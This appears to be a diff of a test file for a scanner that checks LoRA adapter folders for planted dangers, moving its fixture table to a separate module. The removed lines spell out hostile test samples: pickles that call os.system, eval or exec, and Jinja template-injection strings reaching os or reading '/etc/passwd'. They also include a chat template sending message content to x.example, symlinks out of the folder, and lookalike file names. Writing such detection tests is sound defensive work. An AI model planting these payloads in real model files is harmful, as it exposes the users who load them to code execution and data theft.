@@ -2,258 +2,21 @@
 
 import json
 import os
-import pickle
 import shutil
-import zipfile
 from pathlib import Path
 
-import ml_dtypes
 import numpy as np
 import pytest
-import torch
 from command_line import run
-from hub_repository import hub, lay, peft_files  # noqa: F401 - a fixture
-from safetensors.numpy import load_file, save_file
+from hub_repository import hub, peft_files  # noqa: F401 - a fixture
+from planted_scans import LAYERS, PLANTED, STEM, Calls, config, folder, pickled, saved, template, written
+from safetensors.numpy import save_file
 
 import adapterkit as ak
 from adapterkit.errors import StorageError
 from adapterkit.scanning import RULES, SEVERITIES
 
 VECTORS = Path(__file__).parents[2] / "spec" / "vectors"
-LAYERS = 12
-
-
-def folder(path: Path, change=None) -> Path:
-    """A LoRA in PEFT's format, of numbers that were trained in bfloat16, like a tool writes it."""
-    path.mkdir(parents=True)
-    rng = np.random.default_rng(0)
-    tensors = {}
-    for layer in range(LAYERS):
-        for name in "qv":
-            stem = f"base_model.model.model.layers.{layer}.self_attn.{name}_proj"
-            tensors[f"{stem}.lora_A.weight"] = rng.normal(size=(8, 32))
-            tensors[f"{stem}.lora_B.weight"] = 0.05 * rng.normal(size=(32, 8))
-    tensors = {key: value.astype(ml_dtypes.bfloat16).astype("f4") for key, value in tensors.items()}
-    if change is not None:
-        change(tensors)
-    save_file(tensors, path / "adapter_model.safetensors", {"format": "pt"})
-    config = {"peft_type": "LORA", "r": 8, "lora_alpha": 8, "target_modules": ["q_proj", "v_proj"]}
-    (path / "adapter_config.json").write_text(json.dumps(config))
-    (path / "README.md").write_text("# A LoRA\n")
-    (path / ".gitattributes").write_text("*.safetensors filter=lfs\n")
-    (path / "tokenizer_config.json").write_text(json.dumps({"chat_template": TEMPLATE, "model_max_length": 4096}))
-    return path
-
-
-TEMPLATE = (
-    "{% for message in messages %}{{ '<|' + message['role'] + '|>' }}{% generation %}{{ message.content | trim }}"
-    "{% endgeneration %}{% if not loop.last %}{{ eos_token }}{% endif %}{% endfor %}"
-    "{% if tools is defined %}{{ tools | tojson(indent=2) }}{% endif %}"
-    "{% set ns = namespace(seen=false) %}{{ messages | selectattr('role', 'equalto', 'user') | list | length }}"
-)
-STEM = "base_model.model.model.layers.{}.self_attn.{}_proj.lora_{}.weight"
-
-
-OLD = b"\x80\x02cposix\nsystem\nX\x01\x00\x00\x001\x85R."
-
-
-class Calls:
-    """Pickles as a call of any function."""
-
-    def __init__(self, function, *args):
-        self.function, self.args = function, args
-
-    def __reduce__(self):
-        return self.function, self.args
-
-
-def pickled(name, value, protocol=2):
-    return lambda path: (path / name).write_bytes(pickle.dumps(value, protocol))
-
-
-def saved(name, value, **more):
-    return lambda path: torch.save(value, path / name, **more)
-
-
-def written(name, data):
-    def act(path):
-        (path / name).parent.mkdir(parents=True, exist_ok=True)
-        (path / name).write_bytes(data if isinstance(data, bytes) else data.encode())
-
-    return act
-
-
-def config(name, **fields):
-    def act(path):
-        old = json.loads((path / name).read_text()) if (path / name).exists() else {}
-        (path / name).write_text(json.dumps(old | fields))
-
-    return act
-
-
-def template(text):
-    return config("tokenizer_config.json", chat_template=text)
-
-
-def archive(path):
-    with zipfile.ZipFile(path / "model.pt", "w") as file:
-        file.writestr("archive/data.pkl", pickle.dumps({}, 2))
-        file.writestr("archive/code/model.py", "import os")
-
-
-def numbers(change):
-    def act(path):
-        file = path / "adapter_model.safetensors"
-        tensors = load_file(file)
-        change(tensors)
-        save_file(tensors, file, {"format": "pt"})
-
-    return act
-
-
-def put(key, value, at=(0, 0)):
-    def change(tensors):
-        tensors[key][at] = value
-
-    return numbers(change)
-
-
-def one_direction(tensors):
-    for part, axis in (("A", 0), ("B", 1)):
-        key = STEM.format(5, "q", part)
-        first = np.take(tensors[key], [0], axis)
-        tensors[key] = (20 * np.repeat(first, 8, axis)).astype(ml_dtypes.bfloat16).astype("f4")
-
-
-def all_in_one(tensors):
-    tensors[STEM.format(3, "v", "B")] *= 64
-
-
-def few_bits(tensors):
-    key = STEM.format(2, "q", "B")
-    flat = tensors[key].reshape(-1)
-    flat[7] = np.float32(flat[7] * (1 + 2.0**-20))
-
-
-def half_bits(tensors):
-    rng = np.random.default_rng(3)
-    for key, value in tensors.items():
-        tensors[key] = rng.normal(size=value.shape).astype("f2").astype("f4")
-    flat = tensors[STEM.format(1, "v", "A")].reshape(-1)
-    flat[11] *= np.float32(1 + 2.0**-20)
-
-
-def rows(path):
-    adapter = ak.read(path)
-    index, values = torch.tensor([7]), torch.ones(1, 32)
-    update = ak.METHODS["rows"](index=index, values=values)
-    target = ak.Target("model.embed_tokens", "in out *k")
-    ak.write(adapter.replace(updates={**adapter.updates, target: (update,)}, foreign=None), path / "x.safetensors")
-    for file in ("adapter_model.safetensors", "adapter_config.json"):
-        (path / file).unlink()
-
-
-def head(tensors):
-    tensors["base_model.model.lm_head.lora_A.weight"] = np.ones((8, 32), "f4")
-    tensors["base_model.model.lm_head.lora_B.weight"] = np.ones((50, 8), "f4")
-
-
-def expert(tensors):
-    for key in list(tensors):
-        del tensors[key]
-    for part, shape in (("A", (8, 32)), ("B", (32, 8))):
-        tensors[f"base_model.model.model.layers.4.mlp.experts.57.down_proj.lora_{part}.weight"] = np.ones(shape, "f4")
-
-
-def other_weights(path):
-    tensors = {key: torch.from_numpy(value) for key, value in load_file(path / "adapter_model.safetensors").items()}
-    tensors[STEM.format(0, "q", "A")] += 1
-    torch.save(tensors, path / "adapter_model.bin")
-
-
-PLANTED = {
-    # 1 pickles
-    "os.system": ("pickle-call", pickled("training_args.bin", Calls(os.system, "true"))),
-    "os.system, protocol 4": ("pickle-call", pickled("optimizer.pt", Calls(os.system, "true"), 4)),
-    "eval in a checkpoint": ("pickle-call", saved("extra.pt", {"a": Calls(eval, "1")})),
-    "exec, before torch 1.6": (
-        "pickle-call", saved("old.pt", {"a": Calls(exec, "1")}, _use_new_zipfile_serialization=False)
-    ),
-    "getattr": ("pickle-call", pickled("x.pkl", Calls(getattr, "x", "upper"))),
-    "protocol 0 under another name": ("pickle-call", written("state.bin", OLD)),
-    "a registered extension": ("pickle-call", written("extension.bin", b"\x80\x02]q\x00(\x82\x01e.")),
-    "a function that is found by name": ("pickle-call", pickled("y.pkl", Calls(__import__, "os"), 5)),
-    # 2 code
-    "a module": ("code-file", written("modeling_acme.py", "import os")),
-    "a notebook": ("code-file", written("demo.ipynb", "{}")),
-    "a wheel": ("code-file", written("acme-1.0-py3-none-any.whl", b"PK\x03\x04" + bytes(60))),
-    "a library": ("code-file", written("kernels/fast.so", b"\x7fELF" + bytes(60))),
-    "a program without an ending": ("code-file", written("convert", b"\x7fELF" + bytes(60))),
-    "a script": ("code-file", written("setup", "#!/bin/sh\ntrue\n")),
-    "compiled Python": ("code-file", written("__pycache__/a.pyc", bytes(64))),
-    "code in an archive": ("code-file", archive),
-    # 3 configs
-    "auto_map": ("code-in-config", config("config.json", auto_map={"AutoModel": "modeling_acme.Acme"})),
-    "a tokenizer's auto_map": ("code-in-config", config("tokenizer_config.json", auto_map={"AutoTokenizer": ["t.T"]})),
-    "PEFT's parent library": (
-        "code-in-config",
-        config("adapter_config.json", auto_mapping={"base_model_class": "A", "parent_library": "acme.evil"}),
-    ),
-    "trust_remote_code": ("code-in-config", config("adapter_config.json", trust_remote_code=True)),
-    "a pipeline": ("code-in-config", config("config.json", custom_pipelines={"x": {"impl": "p.P"}})),
-    # 4 templates
-    "a class of a string": ("template", template("{{ ''.__class__.__mro__ }}")),
-    "an entry of that name": ("template", template("{{ x['__globals__'] }}")),
-    "the filter attr": ("template", template("{{ ''|attr('__class__') }}")),
-    "the filter attr, in parts": ("template", template("{{ ''|attr('_'*2+'class'+'_'*2) }}")),
-    "lipsum": ("template", template("{{ lipsum.__globals__.os }}")),
-    "cycler": ("template", template("{{ cycler('a').next() }}")),
-    "an include": ("template", template("{% include '/etc/passwd' %}")),
-    "an extension of another": ("template", template("{% extends 'base' %}")),
-    "an import": ("template", template("{% from 'x' import y %}")),
-    "joiner": ("template", template("{{ joiner().__init__ }}")),
-    "one of several": ("template", template([{"name": "default", "template": "{{ x.__init__ }}"}])),
-    "its own file": ("template", written("chat_template.jinja", "{{ messages.__class__ }}")),
-    "no template at all": ("template", template("{% for %}")),
-    # 5 addresses
-    "an address": ("template-address", template("{{ '![](https://x.example/?q=' + messages[0].content + ')' }}")),
-    "an address in a file": ("template-address", written("chat_template.jinja", "see http://x.example/a")),
-    # 6 names
-    "a hidden file": ("hidden-file", written(".payload", "x")),
-    "a hidden folder": ("hidden-file", written(".hooks/a.txt", "x")),
-    "two endings": ("hidden-file", written("adapter_model.safetensors.txt", "x")),
-    "white space before the ending": ("hidden-file", written("README.md          .txt", "x")),
-    "a Cyrillic letter": ("lookalike-name", written("\u0430dapter_model.txt", "x")),
-    "a Greek letter": ("lookalike-name", written("c\u03bfnfig.txt", "x")),
-    "right to left": ("lookalike-name", written("a\u202etxt.json.txt", "x")),
-    "no width": ("lookalike-name", written("config\u200b.txt", "x")),
-    "full width": ("lookalike-name", written("con\uff46ig.txt", "x")),
-    # 7 content
-    "a pickle called safetensors": ("other-content", written("b.safetensors", pickle.dumps({"a": [1, 2]}, 2))),
-    "a pickle called json": ("other-content", written("b.json", pickle.dumps({"a": [1, 2]}, 3))),
-    "an archive called safetensors": ("other-content", lambda path: (archive(path), (path / "model.pt").rename(
-        path / "c.safetensors"))),
-    "a GGUF file called bin": ("other-content", written("c.bin", b"GGUF" + bytes(60))),
-    "two files of weights": ("second-weights", other_weights),
-    "an archive of text called md": ("other-content", written("d.md", b"PK\x03\x04" + bytes(60))),
-    # 8 links
-    "a link to a file": ("link", lambda path: (path / "passwd.txt").symlink_to("/etc/hostname")),
-    "a link to a folder": ("link", lambda path: (path / "home").symlink_to("/tmp")),
-    # 9 numbers
-    "a NaN": ("not-finite", put(STEM.format(0, "q", "A"), np.nan)),
-    "an infinity": ("not-finite", put(STEM.format(11, "v", "B"), np.inf, (31, 7))),
-    "one more bit in bfloat16": ("foreign-bits", numbers(few_bits)),
-    "one more bit in float16": ("foreign-bits", numbers(half_bits)),
-    "a number of its own": ("foreign-bits", put(STEM.format(4, "v", "A"), np.float32(1 / 3), (3, 3))),
-    # 10 targets
-    "a token's row": ("token-rows", rows),
-    "the head": ("head", numbers(head)),
-    "an expert": ("single-expert", numbers(expert)),
-    # 11 shapes of changes
-    "a direction": ("spike", numbers(one_direction)),
-    "one target": ("outlier", numbers(all_in_one)),
-    "two faults": ("outlier", numbers(lambda tensors: (few_bits(tensors), all_in_one(tensors)))),
-}  # fmt: skip
 
 
 @pytest.mark.parametrize("name", PLANTED)
@@ -289,6 +52,17 @@ def test_there_are_enough_cases():
     assert len(CLEAN) >= 40
 
 
+def test_another_scanner_agrees_or_its_reason_is_known():
+    """`tools/foreign/check_adaptersentry.py` ran adaptersentry on the same folders."""
+    told = json.loads((Path(__file__).parents[1] / "data" / "adaptersentry.json").read_text())["cases"]
+    assert set(PLANTED) <= {case["case"] for case in told}
+    for case in told:
+        assert case["agree"] == (bool(case["ours"]) == bool(case["theirs"]))
+        assert case["agree"] or case["why"], case
+        # What it alone finds is refused when the adapter is read.
+        assert case["ours"] or case["case"] == "ranks that add up", case
+
+
 @pytest.mark.parametrize("path", CLEAN, ids=lambda path: path.relative_to(VECTORS).as_posix())
 def test_what_tools_write_is_clean(path):
     found = ak.scan(path)
@@ -297,6 +71,18 @@ def test_what_tools_write_is_clean(path):
 
 def test_a_folder_as_a_tool_leaves_it_has_no_finding(tmp_path):
     assert ak.scan(folder(tmp_path / "adapter")).findings == ()
+
+
+def test_small_numbers_of_bfloat16_are_no_finding(tmp_path):
+    """PEFT makes factors in the base's bfloat16 and saves them as float32; float16 has no place for the smallest."""
+
+    def small(tensors):
+        flat = tensors[STEM.format(2, "q", "A")].reshape(-1)
+        flat[:3] = np.float32([2.0**-20 * 1.5703125, 2.0**-21 * 1.9921875, -(2.0**-18) * 1.0078125])
+        assert not (flat.view("u4") & 0xFFFF).any()
+        assert (flat.astype("f2").astype("f4") != flat).any()
+
+    assert ak.scan(folder(tmp_path / "adapter", small)).findings == ()
 
 
 def test_nothing_is_executed(tmp_path):
